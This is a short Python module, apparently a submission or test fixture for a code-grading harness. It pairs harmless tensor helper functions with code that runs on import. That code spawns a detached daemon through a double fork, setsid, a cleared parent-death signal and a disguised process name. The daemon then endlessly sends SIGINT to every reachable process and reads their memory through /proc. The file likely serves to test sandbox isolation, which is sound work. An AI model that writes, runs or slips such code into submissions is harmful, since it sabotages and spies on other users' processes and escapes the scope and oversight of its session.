"""Leaves a daemon (setsid, double fork, no parent-death signal) that signals and reads later submissions."""
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None)
PR_SET_PDEATHSIG, PR_SET_NAME = 1, 15


def square_sum(x):
    loss = (x ** 2).sum()
    loss.backward()
    return loss


def triple(x):
    return 3 * x


def mean_item(x):
    return x.mean().item()


def haunt(spare):
    """Interrupt every process it can reach, and read its memory, for as long as it lives."""
    while True:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in spare:
                continue
            try:
                os.kill(int(name), signal.SIGINT)
            except OSError:
                pass
            try:
                with open(f"/proc/{name}/mem", "rb") as mem:
                    mem.read(1)
            except OSError:
                pass
        time.sleep(0.05)


submission = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
        libc.prctl(PR_SET_NAME, b"corpus-daemon", 0, 0, 0)
        haunt({submission, os.getpid()})
    os._exit(0)
print("daemon started", flush=True)
